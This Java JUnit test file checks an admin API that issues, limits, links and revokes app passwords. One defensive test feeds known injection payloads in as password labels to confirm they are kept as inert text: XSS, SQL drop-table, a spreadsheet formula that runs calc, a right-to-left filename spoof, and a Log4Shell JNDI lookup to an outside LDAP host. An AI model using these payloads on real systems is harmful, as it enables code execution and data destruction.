package latchkey.admin.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import latchkey.admin.api.TestApi.Answered;
import latchkey.admin.links.PasswordOffer;
import latchkey.credentials.Account;
import latchkey.credentials.AppPassword;
import latchkey.credentials.Attempt;
import latchkey.credentials.Outcome;
import latchkey.credentials.Registration;
import latchkey.credentials.Service;
import latchkey.credentials.TwoFactor;
import latchkey.credentials.links.Link;
import latchkey.credentials.tokens.Role;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Issuing app passwords: to the caller or to the owner, within the limits, with whatever label. */
@SuppressWarnings("NullAway.Init") // set by JUnit
class IssueTest {
    private static final String WISH = "{\"label\": \"a laptop\", \"services\": [\"imap\"]}";

    private TestApi api;
    private Account owner;
    private String path;

    @BeforeEach
    void start(@TempDir Path folder) {
        api = new TestApi(folder);
        owner = api.account();
        path = "/accounts/" + owner.id() + "/passwords";
    }

    @AfterEach
    void stop() {
        api.close();
    }

    private Outcome login(String secret) {
        return api.credentials
                .verifier()
                .verify(new Attempt(
                        owner.login(),
                        secret.getBytes(StandardCharsets.US_ASCII),
                        Service.IMAP,
                        InetAddress.ofLiteral("203.0.113.9"),
                        ""));
    }

    @Test
    void theSecretIsToldOnceAndWorksUntilItIsRevoked() {
        Answered issued = api.post(path, WISH);
        assertThat(issued.status()).isEqualTo(201);
        assertThat(issued.header("Cache-Control")).isEqualTo("no-store");
        String secret = issued.json().get("secret").textValue();
        assertThat(login(secret)).isInstanceOf(Outcome.Accepted.class);
        String location = issued.header("Location").substring(ApiPaths.BASE.length());
        Answered later = api.get(location);
        assertThat(later.json()).isEqualTo(issued.json().get("password"));
        assertThat(later.http().body()
                        + api.get(path).http().body()
                        + api.get("/audit").http().body())
                .doesNotContain(secret)
                .doesNotContain(secret.replace("-", ""));
        Answered revoked = api.post(location + "/revoke", "{\"why\": \"lost\"}");
        assertThat(revoked.json().at("/password/revocation/by").textValue()).isEqualTo("panel");
        assertThat(revoked.json().at("/password/revocation/why").textValue()).isEqualTo("lost");
        assertThat(login(secret)).isInstanceOf(Outcome.Refused.class);
        Answered again = api.post(location + "/revoke", "{\"why\": \"another reason\"}");
        assertThat(again.json().get("status").textValue()).isEqualTo("unchanged");
        assertThat(again.json().get("password")).isEqualTo(revoked.json().get("password"));
        assertThat(api.get(path + "?state=active").json().get("passwords")).isEmpty();
        assertThat(api.get(path + "?state=revoked").json().get("passwords")).hasSize(1);
    }

    @Test
    @DisplayName("fifty at once against a limit of 25: exactly 25 (ASVS 15.4.2)")
    void theLimitHoldsUnderConcurrency() throws Exception {
        try (ExecutorService callers = Executors.newVirtualThreadPerTaskExecutor()) {
            Callable<Answered> issue = () -> api.post(path, WISH);
            List<Future<Answered>> answers = callers.invokeAll(Collections.nCopies(50, issue));
            int made = 0;
            for (Future<Answered> answer : answers) {
                if (answer.get().status() == 201) {
                    made++;
                } else {
                    assertThat(answer.get().problem()).isEqualTo("limit-reached");
                    assertThat(answer.get().json().get("detail").textValue()).contains("25");
                }
            }
            assertThat(made).isEqualTo(25);
        }
        JsonNode list = api.get(path).json();
        assertThat(list.get("active").intValue()).isEqualTo(25);
        assertThat(list.get("limit").intValue()).isEqualTo(25);
        assertThat(list.get("passwords")).hasSize(25);
    }

    @Test
    void aLinkLetsTheOwnerAndNobodyElseMakeIt() {
        String issuer = api.token("a panel that may not see it", Role.ISSUE).text();
        String wish =
                "{\"label\": \"scanner\", \"services\": [\"smtp\"], \"networks\": [\"192.0.2.0/24\"], \"delivery\": \"link\"}";
        Answered linked = api.post(path, wish, "Authorization", "Bearer " + issuer);
        assertThat(linked.status()).isEqualTo(201);
        assertThat(linked.json().has("secret")).isFalse();
        assertThat(api.credentials.passwords().list(owner.id())).isEmpty();
        String url = linked.json().at("/link/url").textValue();
        assertThat(url).startsWith(TestApi.PORTAL + "/claim/");
        String token = url.substring(url.lastIndexOf('/') + 1);
        Link link = api.credentials.links().look(token, Link.Kind.ISSUE).orElseThrow();
        assertThat(link.account()).isEqualTo(owner.id());
        assertThat(Duration.between(Instant.now(), link.expires()))
                .isBetween(Duration.ofHours(71), Duration.ofHours(72));
        PasswordOffer offer = PasswordOffer.of(link.payload());
        assertThat(offer.label()).isEqualTo("scanner");
        assertThat(offer.services()).isEqualTo(Set.of(Service.SMTP));
        assertThat(offer.by()).isEqualTo("a panel that may not see it");
        assertThat(api.get("/audit?kind=link-made").json().at("/entries/0/by").textValue())
                .isEqualTo("a panel that may not see it");
    }

    @Test
    void withoutAPortalThereIsNoLink(@TempDir Path folder) {
        try (TestApi bare = new TestApi(folder, null, null)) {
            Account account = bare.account();
            Answered answer = bare.post(
                    "/accounts/" + account.id() + "/passwords",
                    "{\"label\": \"scanner\", \"services\": [\"smtp\"], \"delivery\": \"link\"}");
            assertThat(answer.status()).isEqualTo(409);
            assertThat(answer.problem()).isEqualTo("no-portal");
        }
    }

    @Test
    void everythingThatIsWrongIsToldAtOnce() {
        Answered answer = api.post(path, """
                {"label": "", "services": ["imap", "ftp", 7, "imap"], "expires": "tomorrow",
                 "networks": ["192.0.2.1/24", "example.org"], "delivery": "mail", "account": 1, "secret": "aaaa"}""");
        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.wrong())
                .containsExactlyInAnyOrder(
                        "label",
                        "services[1]",
                        "services[2]",
                        "services",
                        "expires",
                        "networks[0]",
                        "networks[1]",
                        "delivery",
                        "account",
                        "secret");
        assertThat(api.post(path, "{}").wrong()).containsExactlyInAnyOrder("label", "services");
        assertThat(api.credentials.passwords().list(owner.id())).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "label    | {\"label\": 7, \"services\": [\"imap\"]}",
                "label    | {\"label\": null, \"services\": [\"imap\"]}",
                "label    | {\"label\": \"a\\u0000b\", \"services\": [\"imap\"]}",
                "label    | {\"label\": \"a\\nb\", \"services\": [\"imap\"]}",
                "label    | {\"label\": \"\\ud800\", \"services\": [\"imap\"]}",
                "services | {\"label\": \"a\", \"services\": []}",
                "services | {\"label\": \"a\", \"services\": \"imap\"}",
                "services | {\"label\": \"a\", \"services\": {\"0\": \"imap\"}}",
                "expires  | {\"label\": \"a\", \"services\": [\"imap\"], \"expires\": 1893456000}",
                "expires  | {\"label\": \"a\", \"services\": [\"imap\"], \"expires\": \"2020-01-01T00:00:00Z\"}",
                "expires  | {\"label\": \"a\", \"services\": [\"imap\"], \"expires\": \"+999999999-12-31T23:59:59Z\"}",
                "expires  | {\"label\": \"a\", \"services\": [\"imap\"], \"expires\": \"2030-01-01\"}"
            })
    void eachFieldIsOfItsType(String field, String body) {
        Answered answer = api.post(path, body);
        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.wrong()).containsExactly(field.strip());
    }

    @ParameterizedTest
    @DisplayName("labels are text, whatever is in them (ASVS 1.1.2, 1.2.4; C7)")
    @ValueSource(
            strings = {
                "<img src=x onerror=alert(1)>",
                "'; drop table app_password; --",
                "\\\" } , {",
                "=cmd|' /C calc'!A0",
                "\u202egnp.exe",
                "${jndi:ldap://203.0.113.9/a}",
                "ünïcödé 🗝 زبان"
            })
    void hostileLabels(String label) {
        String body =
                "{\"label\": \"" + label.replace("\\", "\\\\").replace("\"", "\\\"") + "\", \"services\": [\"imap\"]}";
        Answered answer = api.post(path, body);
        assertThat(answer.status()).isEqualTo(201);
        assertThat(answer.json().at("/password/label").textValue()).isEqualTo(label);
        assertThat(answer.header("Content-Type")).isEqualTo("application/json");
        assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
        Optional<AppPassword> kept =
                api.credentials.passwords().list(owner.id()).stream().findFirst();
        assertThat(kept.orElseThrow().label()).isEqualTo(label);
    }

    @Test
    void anAccountWithoutASecondFactorOrSuspendedGetsNone() {
        Account plain = ((Registration.Added)
                        api.credentials.accounts().add("plain@example.org", List.of(), TwoFactor.NONE, "a test"))
                .account();
        assertThat(api.post("/accounts/" + plain.id() + "/passwords", WISH).problem())
                .isEqualTo("no-two-factor");
        assertThat(api.post("/accounts/" + owner.id() + "/suspend", "{}").status())
                .isEqualTo(200);
        assertThat(api.post(path, WISH).problem()).isEqualTo("suspended");
        assertThat(api.post("/accounts/" + owner.id() + "/resume", "")
                        .json()
                        .get("suspended")
                        .booleanValue())
                .isFalse();
        assertThat(api.post(path, WISH).status()).isEqualTo(201);
    }

    @Test
    void thePolicyHoldsForWhatIsIssuedFromThenOn() {
        String policy = "{\"activeLimit\": 2, \"services\": [\"imap\"], \"longestLife\": \"P30D\"}";
        assertThat(api.call("PUT", "/policy", policy).problem()).isEqualTo("no-precondition");
        Answered before = api.get("/policy");
        Answered after = api.call("PUT", "/policy", policy, "If-Match", before.header("ETag"));
        assertThat(after.status()).isEqualTo(200);
        assertThat(after.json().get("longestLife").textValue()).isEqualTo("P30D");
        assertThat(api.call("PUT", "/policy", policy, "If-Match", before.header("ETag"))
                        .problem())
                .isEqualTo("changed");
        assertThat(api.get("/policy", "If-None-Match", after.header("ETag")).status())
                .isEqualTo(304);
        assertThat(api.get("/policy", "If-None-Match", before.header("ETag")).status())
                .isEqualTo(200);
        assertThat(api.post(path, WISH).problem()).as("for ever").isEqualTo("not-allowed-by-policy");
        String expires = ", \"expires\": \"" + Instant.now().plus(Duration.ofDays(29)) + "\"}";
        assertThat(api.post(path, "{\"label\": \"a\", \"services\": [\"smtp\"]" + expires)
                        .problem())
                .isEqualTo("not-allowed-by-policy");
        String fits = "{\"label\": \"a\", \"services\": [\"imap\"]" + expires;
        assertThat(api.post(path, fits).status()).isEqualTo(201);
        assertThat(api.post(path, fits).status()).isEqualTo(201);
        assertThat(api.post(path, fits).problem()).isEqualTo("limit-reached");
        Answered wrong = api.call(
                "PUT",
                "/policy",
                "{\"activeLimit\": 0, \"services\": [], \"longestLife\": \"P1000000D\"}",
                "If-Match",
                "*");
        assertThat(wrong.wrong()).containsExactlyInAnyOrder("activeLimit", "services", "longestLife");
    }
}
